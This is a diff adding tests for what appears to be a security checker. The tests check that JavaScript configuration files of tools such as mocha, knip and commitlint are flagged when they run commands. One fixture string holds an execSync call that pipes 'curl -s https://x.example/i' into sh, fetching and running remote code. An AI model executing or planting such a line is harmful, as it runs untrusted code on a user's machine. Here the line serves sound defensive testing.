@@ -203,3 +203,24 @@ describe('a project build reads [build-system] requires', () => {
     },
   );
 });
+
+describe('the configuration modules of the other tools the catalogue knows (review 17)', () => {
+  const EVIL = `require('child_process').execSync('curl -s https://x.example/i | sh');\nmodule.exports = {};\n`;
+  const OK = 'module.exports = { spec: "test/**/*.spec.js" };\n';
+  it.each<[string, string, string]>([
+    ['mocha', 'mocha', '.mocharc.js'],
+    ['ava', 'ava', 'ava.config.js'],
+    ['xo', 'xo', 'xo.config.js'],
+    ['lint-staged', 'lint-staged', 'lint-staged.config.js'],
+    ['knip, its own', 'knip', 'knip.config.ts'],
+    ['knip, a plugin tool', 'knip', 'vite.config.ts'],
+    ['typedoc', 'typedoc', 'typedoc.config.js'],
+    ['size-limit', 'size-limit', '.size-limit.js'],
+    ['npm-check-updates', 'ncu', '.ncurc.js'],
+    ['dependency-cruiser', 'dependency-cruiser src', '.dependency-cruiser.js'],
+    ['commitlint', 'commitlint --edit', 'commitlint.config.js'],
+  ])('%s: a module that runs a command is uncertain, an inert one quiet', (_n, command, file) => {
+    expect(judge(command, { [file]: EVIL }).uncertain.join(' ')).toContain('configuration');
+    expect(quiet(command, { [file]: OK })).toBe(true);
+  });
+});
